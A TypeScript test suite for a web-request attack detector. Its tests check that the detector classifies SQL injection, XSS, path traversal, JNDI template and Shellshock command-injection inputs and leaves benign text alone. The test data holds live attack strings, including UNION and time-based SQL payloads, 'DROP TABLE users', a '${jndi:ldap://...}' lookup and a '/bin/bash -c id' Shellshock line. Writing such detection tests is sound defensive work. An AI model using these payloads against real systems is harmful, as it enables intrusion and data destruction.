import fs from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { targetPrefilter } from '../../src/detections/requests/prefilter.ts';
import { scoreRequest } from '../../src/detections/requests/score-request.ts';
import { decodeStages } from '../../src/detections/signatures/stages.ts';

const family = (target: string): string => scoreRequest({ target })[0]?.family ?? 'none';
const technique = (target: string): string => scoreRequest({ target })[0]?.technique ?? 'none';
const q = (value: string): string => `/s?q=${encodeURIComponent(value)}`;

describe('scoring of one request', () => {
  it('tells the technique of an injection', () => {
    const cases: Record<string, string> = {
      "1' AND 5=5 AND 'a'='a": 'sqli-boolean',
      '1 AND ASCII(SUBSTRING((SELECT x FROM t),1,1))>64': 'sqli-boolean',
      "1' UNION ALL SELECT NULL,NULL--": 'sqli-union',
      '1 ORDER BY 7-- ': 'sqli-union',
      '(SELECT (CASE WHEN (3=4) THEN 1 ELSE (SELECT 12 UNION SELECT 34) END))': 'sqli-boolean',
      '(CASE WHEN (3=4) THEN id ELSE 7*(SELECT 12 UNION ALL SELECT 34) END)': 'sqli-boolean',
      "1' UNION SELECT (CASE WHEN (3=4) THEN 1 ELSE (SELECT 12 UNION SELECT 34) END)-- ": 'sqli-union',
      "1'; SELECT PG_SLEEP(5)--": 'sqli-time',
      '1 AND IF(1=1,SLEEP(5),0)': 'sqli-time',
      "1' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT user())))": 'sqli-error',
      '1 AND 1=CAST((SELECT x FROM t) AS INT)': 'sqli-error',
      "x'; DROP TABLE users--": 'sqli-stacked',
    };
    for (const [value, expected] of Object.entries(cases)) expect([value, technique(q(value))]).toEqual([value, expected]);
  });
  it('sees through encodings, comments and wrapping', () => {
    const value = "1' UNION SELECT a FROM b-- x";
    const twice = encodeURIComponent(encodeURIComponent(value));
    for (const t of [
      `/s?q=${twice}`,
      `/s?q=${encodeURIComponent(twice)}`,
      `/s?q=${Buffer.from(value).toString('base64')}`,
      q(JSON.stringify({ f: { g: value } })),
      q("1'/**/UNION/*x*/SELECT/**/a--"),
      q('1 /*!50000UNION*/ SELECT 1'),
      '/s?q=%u0027%20UNION%20SELECT%201',
      `/s?q=${value.replaceAll(' ', '+')}`,
      q('１＇ ＵＮＩＯＮ ＳＥＬＥＣＴ １'),
    ])
      expect([t, family(t)]).toEqual([t, 'sqli']);
    expect(family('/a?f=%252e%252e%252f%252e%252e%252fetc')).toBe('path-traversal');
    expect(family('/a?f=%c0%ae%c0%ae/%c0%ae%c0%ae/x')).toBe('path-traversal');
    expect(family('/a?x=%26lt%3Bscript%26gt%3Balert(1)')).toBe('xss');
  });
  it('leaves people alone', () => {
    for (const value of [
      "O'Neil",
      "D'Angelo & Sons",
      'union',
      'select',
      'Tom or Jerry',
      'rock and roll',
      '1 + 1',
      'C++ / C#',
      'a--b',
      '50% off',
      '12:30-13:00',
      'user@example.jp',
      '東京都 千代田区',
      "it's #1",
      'order by mail',
      'please select one from the list',
      'x > y',
      'fish; chips',
      'f(x)',
      '{name}',
      '(03) 1234-5678',
      'https://www.example.jp/a?b=c',
      '..',
      'a...',
      'R&D',
      'drop shipping',
      'like new',
      "rock 'n' roll",
      'script writer',
      '2024-01-01',
      'null',
      'true',
    ])
      expect([value, scoreRequest({ target: q(value) }).map(s => s.signatures)]).toEqual([value, []]);
    for (const agent of [
      'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
      'LAVA (MAUI/K_2013;BDATE/2013/08/20 14:41;LCD/240320;CHIP/MT6260;KEY/Normal)',
      'HTTP_Request2/2.1.1 (http://pear.php.net/package/http_request2) PHP/5.3.2',
      'curl/8.4.0',
    ])
      expect([agent, scoreRequest({ target: '/', userAgent: agent })]).toEqual([agent, []]);
  });
  it('names the part and parameter, and keeps the stage', () => {
    expect(scoreRequest({ target: '/s?a=1&b=x%2527%2520or%25201%253d1--' })[0]).toMatchObject({
      part: 'query-value',
      name: 'b',
      stage: 2,
    });
    expect(scoreRequest({ target: '/', userAgent: '${jndi:ldap://192.0.2.1/a}' })[0]).toMatchObject({
      family: 'template',
      part: 'user-agent',
    });
    expect(scoreRequest({ target: '/', userAgent: '() { :; }; /bin/bash -c id' })[0]!.family).toBe('command-injection');
  });
  it('is total: any text gives an answer in bounded time', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), fc.string({ maxLength: 100 }), (target, agent) => {
        for (const s of scoreRequest({ target, userAgent: agent, referer: target, body: target, cookie: target })) expect(s.score).toBeGreaterThanOrEqual(5);
      }),
      { numRuns: 3000, seed: 4 },
    );
    for (const unit of ["'", '(', '%25', '../', "' or ", 'select ', '/*', '&#', '{', '$(', 'a=1&', '\\', '%c0', 'union ', '<', '--'])
      expect(Array.isArray(scoreRequest({ target: `/?q=${unit.repeat(20_000)}` }))).toBe(true);
  });
  it('decoding ends, and every stage is kept', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 60 }), text => {
        const { texts, decoders } = decodeStages(encodeURIComponent(text.toWellFormed()), false);
        expect(texts.length).toBe(decoders.length + 1);
        expect(texts.length).toBeLessThanOrEqual(6);
      }),
      { numRuns: 1000, seed: 6 },
    );
    expect(decodeStages('%2527', false).texts).toEqual(['%2527', '%27', "'"]);
  });
});

const file = '../shared/data/payloads/payload_test.csv';
describe.skipIf(!fs.existsSync(file))('labelled payloads (skipped where they are not at hand)', () => {
  it('recall at least 0.97 and precision at least 0.99 for injection, scripting and traversal', { timeout: 30_000 }, () => {
    const rows = [...fs.readFileSync(file, 'utf8').matchAll(/"((?:[^"]|"")*)","\d+","([a-z-]+)","(?:norm|anom)"/g)].map(m => ({
      type: m[2]!,
      top: family(q(m[1]!.replaceAll('""', '"'))),
    }));
    expect(rows.length).toBeGreaterThan(10_000);
    for (const f of ['sqli', 'xss', 'path-traversal']) {
      const right = rows.filter(r => r.type === f && r.top === f).length;
      expect([f, right / rows.filter(r => r.type === f).length >= 0.97, right / rows.filter(r => r.top === f).length >= 0.99]).toEqual([f, true, true]);
    }
  });
});

describe.skipIf(!fs.existsSync(file))('the prefilter (skipped where no payloads are at hand)', () => {
  it('lets every request through that would score', { timeout: 30_000 }, () => {
    const rows = [...fs.readFileSync(file, 'utf8').matchAll(/"((?:[^"]|"")*)","\d+","([a-z-]+)","(?:norm|anom)"/g)].map(m => m[1]!.replaceAll('""', '"'));
    const pattern = new RegExp(targetPrefilter);
    expect(rows.filter(v => family(q(v)) !== 'none' && !pattern.test(`/s?q=${v}`.toLowerCase())).slice(0, 20)).toEqual([]);
  });
});
